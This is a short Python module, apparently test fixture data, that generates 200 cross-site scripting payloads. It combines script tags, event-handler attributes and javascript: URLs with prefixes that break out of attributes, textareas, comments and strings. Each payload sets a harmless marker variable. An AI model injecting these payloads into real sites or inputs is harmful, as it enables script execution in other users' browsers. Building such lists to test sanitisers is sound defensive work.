"""Texts that would run a script in a page that shows them as markup: each sets `window.hacked` or opens a dialog."""

from itertools import product

_RUN = "window.hacked=1"
_MARKUP = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run} autofocus onfocus={run}>x</a>",
    "<form action=javascript:{run}><input type=submit autofocus></form>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<style>@import 'javascript:{run}';</style>",
    "<link rel=stylesheet href=javascript:{run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<template><script>{run}</script></template>",
    "<marquee onstart={run}>x</marquee>",
    "<div style='background:url(javascript:{run})' onmouseover={run}>x</div>",
)
_BEFORE = ("", '">', "'>", "</textarea>", "</title></style></script>", "--><!-- ", "]]>", '\\"};{run};//')
PAYLOADS = tuple((before + markup).replace("{run}", _RUN) for before, markup in product(_BEFORE, _MARKUP))
"""200 of them."""
